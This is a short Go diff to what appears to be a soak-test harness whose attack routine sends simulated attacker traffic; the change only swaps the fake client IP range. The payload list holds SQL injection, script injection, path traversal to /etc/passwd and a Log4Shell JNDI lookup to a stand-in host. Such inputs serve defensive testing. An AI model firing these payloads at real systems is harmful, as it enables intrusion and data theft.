@@ -177,7 +177,7 @@ func (s *soak) attack(dice *rand.Rand) {
 	defer l.close()
 	for pause(s.life, between(dice, 0, s.plan.step)) {
 		payload := []string{"1' OR '1'='1' -- ", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}"}[dice.IntN(4)]
-		l.ask(question{who: "attacker", client: fmt.Sprintf("10.7.0.%d", dice.IntN(attackers)), path: "/search?q=" + url.QueryEscape(payload)})
+		l.ask(question{who: "attacker", client: fmt.Sprintf("198.51.100.%d", dice.IntN(attackers)), path: "/search?q=" + url.QueryEscape(payload)})
 	}
 }
 
